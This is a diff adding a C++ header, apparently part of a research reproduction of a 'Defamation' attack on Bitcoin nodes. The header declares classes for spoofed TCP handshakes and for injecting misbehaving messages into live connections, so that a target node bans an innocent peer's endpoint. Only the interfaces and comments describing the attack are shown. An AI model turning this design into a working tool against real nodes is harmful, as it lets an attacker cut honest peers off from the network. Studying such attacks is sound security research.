@@ -1,0 +1,111 @@
+// The Defamation attack (§IV): make the target node ban an innocent peer's
+// connection identifier by spoofing/injecting misbehaving messages.
+//
+//  * Pre-connection (§IV-B-1): no connection exists between innocent j and
+//    target i. The attacker performs a fully spoofed TCP handshake as j
+//    (sniffing i's SYN-ACK off the shared segment) and then speaks enough
+//    Bitcoin protocol to deliver misbehaving messages, so i bans [j.ip:port]
+//    before j ever uses it.
+//
+//  * Post-connection (§IV-B-2, Algorithm 1): j and i are connected. The
+//    attacker eavesdrops the live TCP state (seq/ack) and injects a
+//    misbehaving message into the stream with j's source endpoint; i
+//    attributes it to j and bans it.
+#pragma once
+
+#include <cstdint>
+#include <memory>
+#include <vector>
+
+#include "attack/attacker.hpp"
+
+namespace bsattack {
+
+/// A TCP client whose segments carry a spoofed source endpoint. The real
+/// handshake responses go to the spoofed host (which, behind a perimeter
+/// firewall, silently drops them), so the client learns the target's ISN by
+/// sniffing the shared network segment.
+class SpoofedTcpClient {
+ public:
+  SpoofedTcpClient(AttackerNode& attacker, Endpoint spoofed_src, Endpoint target);
+
+  /// Send the SYN and sniff for the SYN-ACK. `on_established` fires when the
+  /// spoofed three-way handshake completes.
+  void Start(std::function<void()> on_established);
+
+  /// Send application bytes as the spoofed source (MSS-sized segments with
+  /// correct sequence numbers).
+  void SendData(bsutil::ByteSpan data);
+
+  bool Established() const { return established_; }
+  std::uint64_t SegmentsInjected() const { return segments_injected_; }
+
+ private:
+  void EmitRaw(std::uint8_t flags, bsutil::ByteSpan payload);
+
+  AttackerNode& attacker_;
+  Endpoint spoofed_src_;
+  Endpoint target_;
+  std::uint32_t snd_next_;
+  std::uint32_t rcv_next_ = 0;
+  bool syn_sent_ = false;
+  bool established_ = false;
+  std::uint64_t segments_injected_ = 0;
+  std::function<void()> on_established_;
+  // Keeps the sniffer callback alive/valid after *this* might move.
+  std::shared_ptr<bool> alive_ = std::make_shared<bool>(true);
+};
+
+/// Pre-connection Defamation: ban identifier j at target i before j uses it.
+class PreConnectionDefamation {
+ public:
+  /// `frames`: the Bitcoin frames to deliver once the spoofed session is up
+  /// (e.g. VERSION, VERACK, then a 100-point misbehaving message).
+  PreConnectionDefamation(AttackerNode& attacker, Endpoint target, Endpoint innocent_id,
+                          std::vector<bsutil::ByteVec> frames);
+
+  void Run(std::function<void()> on_done = nullptr);
+  bool HandshakeSucceeded() const { return client_ && client_->Established(); }
+
+  /// Convenience: the default frame sequence that earns an instant ban —
+  /// VERSION, VERACK, then a SegWit-consensus-invalid TX (score 100).
+  static std::vector<bsutil::ByteVec> InstantBanFrames(std::uint32_t magic);
+
+ private:
+  AttackerNode& attacker_;
+  Endpoint target_;
+  Endpoint innocent_;
+  std::vector<bsutil::ByteVec> frames_;
+  std::unique_ptr<SpoofedTcpClient> client_;
+};
+
+/// Post-connection Defamation per Algorithm 1.
+class PostConnectionDefamation {
+ public:
+  PostConnectionDefamation(AttackerNode& attacker, Endpoint target, Endpoint innocent_id);
+
+  /// Begin real-time eavesdropping; once the live seq state of j→i is known,
+  /// inject `frames` into the connection as j.
+  void Arm(std::vector<bsutil::ByteVec> frames);
+
+  bool SequenceKnown() const { return seq_known_; }
+  bool Injected() const { return injected_; }
+  std::uint64_t SegmentsObserved() const { return segments_observed_; }
+
+ private:
+  void TryInject();
+
+  AttackerNode& attacker_;
+  Endpoint target_;
+  Endpoint innocent_;
+  std::vector<bsutil::ByteVec> frames_;
+  bool armed_ = false;
+  bool seq_known_ = false;
+  bool injected_ = false;
+  std::uint32_t next_seq_from_innocent_ = 0;
+  std::uint32_t last_ack_from_innocent_ = 0;
+  std::uint64_t segments_observed_ = 0;
+  std::shared_ptr<bool> alive_ = std::make_shared<bool>(true);
+};
+
+}  // namespace bsattack
